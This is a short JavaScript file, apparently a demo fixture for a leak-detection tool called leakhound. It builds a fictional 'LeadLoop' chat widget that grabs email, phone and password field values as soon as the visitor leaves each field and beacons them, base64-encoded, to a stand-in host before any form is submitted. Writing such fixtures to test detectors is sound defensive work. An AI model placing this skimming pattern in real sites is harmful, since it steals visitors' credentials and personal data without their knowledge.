// leakhound demo: "LeadLoop", a fictional lead-capture chat widget. It shows a chat bubble and,
// like the form-grabbing scripts the Leaky Forms study found, sends contact and login fields as
// soon as the visitor leaves them, before any form is submitted:
//   POST https://collect.leadloop.test/v2/capture, form body d=base64(JSON {a, f, v})
(function () {
  'use strict';
  var cfg = window.LeadLoop || {};
  var sent = {};

  var bubble = document.createElement('div');
  bubble.textContent = 'Questions? Chat with us';
  bubble.setAttribute('style', 'position:fixed;right:1rem;bottom:1rem;background:#2a7d4f;color:#fff;' +
    'padding:.6rem 1rem;border-radius:1.5rem;font:14px system-ui;box-shadow:0 2px 6px rgba(0,0,0,.3)');
  (document.body || document.documentElement).appendChild(bubble);

  function b64(text) { return btoa(unescape(encodeURIComponent(text))); }

  document.addEventListener('focusout', function (e) {
    var el = e.target;
    if (!el || !el.matches || !el.matches('input[type=email], input[type=tel], input[type=password]')) return;
    var key = el.name || el.id;
    if (!el.value || sent[key] === el.value) return;
    sent[key] = el.value;
    var body = new URLSearchParams();
    body.set('d', b64(JSON.stringify({ a: cfg.account || '', f: key, v: el.value })));
    navigator.sendBeacon('https://collect.leadloop.test/v2/capture', body);
  }, true);
})();
